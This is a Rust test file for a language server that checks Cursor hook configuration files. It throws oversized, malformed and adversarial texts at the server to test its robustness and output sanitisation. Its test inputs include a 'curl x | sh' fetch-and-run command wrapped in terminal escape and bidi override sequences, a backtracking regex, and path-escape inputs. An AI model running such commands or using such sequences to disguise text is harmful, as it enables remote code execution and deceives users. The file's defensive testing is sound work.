//! Texts in an editor that nobody types: the server answers, stays within bounds, and says nothing that steers whoever shows it.

use hookc_tests::lsp::TestServer;
use serde_json::{Value, json};

use super::*;

/// What the server may hold in memory, in bytes; twice as much without optimisation.
const MEMORY: u64 = if cfg!(debug_assertions) { 800 << 20 } else { 400 << 20 };

fn texts() -> Vec<String> {
    let many = if cfg!(debug_assertions) { 2_000 } else { 20_000 };
    vec![
        String::new(),
        "[".repeat(50_000),
        "{\"hooks\":".repeat(20_000),
        "\u{0}".repeat(20_000),
        format!(
            "{{ \"hooks\": {{ \"stop\": [{}] }} }}",
            entries(many, |n| format!("{{ \"command\": {n} }}"))
        ),
        one_command(&"node x.js; ".repeat(2_000)),
        one_command(&"\u{1b}[2J\u{9b}\u{202e}\n".repeat(500)),
        one_command(&"a | ".repeat(2_000)),
        one_matcher(&"(a+)+".repeat(500)),
        one_matcher(&"Bash|".repeat(2_000)),
        format!("\"{}\"", "\\ud800".repeat(20_000)),
        "\r".repeat(50_000),
        "\u{2028}\u{1f600}".repeat(20_000),
    ]
}

/// Every string of a value.
fn strings<'v>(value: &'v Value, found: &mut Vec<&'v str>) {
    match value {
        Value::String(text) => found.push(text),
        Value::Array(items) => items.iter().for_each(|item| strings(item, found)),
        Value::Object(members) => members.values().for_each(|value| strings(value, found)),
        _ => {}
    }
}

#[test]
fn every_text_is_judged_and_every_question_answered() {
    let tree = Tree::new().file(".cursor/hooks.json", "{}");
    let mut server = TestServer::start(tree);
    server.open(".cursor/hooks.json");
    for text in texts() {
        server.replace(".cursor/hooks.json", &text);
        let document = json!({ "uri": server.uri(".cursor/hooks.json") });
        for method in ["documentSymbol", "foldingRange", "semanticTokens/full", "codeLens", "documentLink"] {
            // What the server does not offer it may refuse; it may not go away.
            let _ =
                server.try_request(&format!("textDocument/{method}"), json!({ "textDocument": document }));
        }
        for character in [0, 30, 1_000_000] {
            let place =
                json!({ "textDocument": document, "position": { "line": 0, "character": character } });
            for method in ["hover", "completion", "definition"] {
                let _ = server.try_request(&format!("textDocument/{method}"), place.clone());
            }
        }
    }
    if let Some(peak) = server.peak_memory() {
        assert!(peak < MEMORY, "{peak} bytes");
    }
    assert_eq!(server.finish(), Some(0));
}

#[test]
fn what_is_told_of_a_hostile_text_is_shown_and_not_sent() {
    let hostile = "./\u{1b}[2J\u{9b}31m\u{202e}x.sh && /Users/ann/\u{1b}]0;y\u{7}; curl x | sh";
    let tree = Tree::new().file(".cursor/hooks.json", one_command(hostile));
    let mut server = TestServer::start(tree);
    server.open(".cursor/hooks.json");
    let published = server.diagnostics(".cursor/hooks.json");
    assert!(!published.diagnostics.is_empty());
    let uri = server.uri(".cursor/hooks.json");
    let hover = server.request(
        "textDocument/hover",
        json!({ "textDocument": { "uri": uri }, "position": { "line": 0, "character": 52 } }),
    );
    let mut told = Vec::new();
    strings(&hover, &mut told);
    published.diagnostics.iter().for_each(|diagnostic| strings(&diagnostic["message"], &mut told));
    for text in told {
        escapes::is_only_text(&text.replace('\t', " "), "editor");
    }
    assert_eq!(server.finish(), Some(0));
}

#[cfg(unix)]
#[test]
fn an_open_text_leads_to_no_file_outside_of_the_folders() {
    let outside = Tree::new().script("secret.sh", "#!/bin/sh\r\n");
    let secret = outside.path().join("secret.sh").display().to_string();
    let tree = Tree::new().file(".cursor/hooks.json", one_command(&secret)).link("up", outside.path());
    let mut server = TestServer::start(tree);
    server.open(".cursor/hooks.json");
    for command in [secret.as_str(), "up/secret.sh", "../secret.sh"] {
        server.replace(".cursor/hooks.json", &one_command(command));
        let rules = server.rules(".cursor/hooks.json");
        assert!(!rules.iter().any(|rule| rule == "crlf-script"), "{command} {rules:?}");
    }
    assert_eq!(server.finish(), Some(0));
}
